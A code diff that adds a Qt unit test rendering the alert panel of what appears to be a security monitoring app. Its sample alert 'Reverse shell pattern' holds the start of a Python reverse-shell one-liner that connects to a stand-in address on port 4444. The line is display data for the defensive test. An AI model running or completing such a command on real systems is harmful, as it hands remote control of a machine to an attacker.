@@ -212,4 +212,21 @@ TEST_F(MenuBarMonitorTest, CaptureButtonStatusAndSeverityPerState)
     }
 }
 
+// For looking at: QUILLMARSH_GRAB_DIR=<folder> keeps the panel with alerts while running.
+TEST_F(MenuBarMonitorTest, RendersThePanel)
+{
+    std::vector<MonitorAlert> history = {alert("Reverse shell pattern", 4), alert("Log erasure", 3),
+                                         alert("Capture ended", 3, true, MonitorAlert::Kind::monitor)};
+    history[0].summary = "python3 -c import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.23\",4444))";
+    alerts->setAlerts(history);
+    live.setState(LiveMonitor::Running{});
+    MenuBarMonitorView &p = makePanel();
+    p.adjustSize();
+    const QImage image = p.grab().toImage();
+    EXPECT_EQ(image.width(), MenuBarMonitorView::panelWidth);
+    if (const QByteArray folder = qgetenv("QUILLMARSH_GRAB_DIR"); !folder.isEmpty())
+        image.save(QString::fromLocal8Bit(folder) + "/menu-bar-panel.png");
+    live.setState(LiveMonitor::Idle{});
+}
+
 } // namespace
